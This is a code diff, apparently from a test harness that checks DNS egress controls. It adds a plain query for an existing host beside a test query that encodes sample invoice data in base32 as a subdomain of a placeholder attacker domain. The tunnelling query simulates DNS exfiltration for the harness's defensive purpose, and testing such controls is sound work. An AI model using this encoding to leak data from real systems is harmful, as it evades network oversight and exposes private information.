@@ -131,7 +131,14 @@ def _tunnel(kind: int, *, tcp: bool = False) -> Callable[[Ground], list[Shot]]:
         secret = base64.b32encode(b"INV-2041 1250.00 EUR").decode().lower().rstrip("=")
         message = query(f"{secret}.{_EVIL}", kind)
         text = _over_tcp(message) if tcp else message
-        return [raw(place_of(member), ground.dns_service, 53, text, said=f"DNS: {secret}.{_EVIL}", udp=not tcp)]
+        # Beside it a name that exists: whether the other was passed on, only the one who answers for it knows.
+        named = undeclared_host(ground.stack)
+        plain = query(named, kind)
+        return [
+            raw(place_of(member), ground.dns_service, 53, text, said=f"DNS: {secret}.{_EVIL}", udp=not tcp),
+            raw(place_of(member), ground.dns_service, 53, _over_tcp(plain) if tcp else plain, said=f"DNS: {named}",
+                udp=not tcp),
+        ]  # fmt: skip
 
     return steps
 
